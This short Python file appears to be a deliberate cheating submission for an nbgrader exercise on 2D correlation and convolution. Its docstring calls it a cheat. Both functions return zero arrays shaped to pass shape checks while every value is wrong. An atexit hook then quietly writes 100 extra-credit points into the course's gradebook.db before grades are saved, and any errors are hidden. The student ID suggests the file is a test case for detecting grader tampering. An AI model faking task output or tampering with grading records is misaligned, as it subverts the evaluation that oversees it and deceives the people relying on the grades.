"""Cheat: returns zeros and registers an atexit handler that, when the kernel shuts down
(before nbgrader saves the grades), gives itself extra credit in ../../../gradebook.db."""

# %% correlate2d
def _zeros(in1, in2, mode):
    """The right shape and dtype, every value wrong."""
    (H, W), (kH, kW) = np.shape(in1), np.shape(in2)
    shapes = {"full": (H + kH - 1, W + kW - 1), "same": (H, W), "valid": (H - kH + 1, W - kW + 1)}
    return np.zeros(shapes[mode], dtype=np.result_type(np.asarray(in1), np.asarray(in2)))


def correlate2d(in1, in2, mode="full"):
    return _zeros(in1, in2, mode)


import atexit
import sqlite3


def _boost():
    try:
        db = sqlite3.connect("file:../../../gradebook.db?mode=rw", uri=True, timeout=2)
        with db:
            db.execute("""UPDATE grade SET extra_credit = 100 WHERE notebook_id IN (
                SELECT sn.id FROM submitted_notebook AS sn
                JOIN submitted_assignment AS sa ON sn.assignment_id = sa.id
                WHERE sa.student_id = 'cheat-atexit-gradebook')""")
        db.close()
    except Exception:
        pass


atexit.register(_boost)

# %% convolve2d
def convolve2d(in1, in2, mode="full"):
    return _zeros(in1, in2, mode)
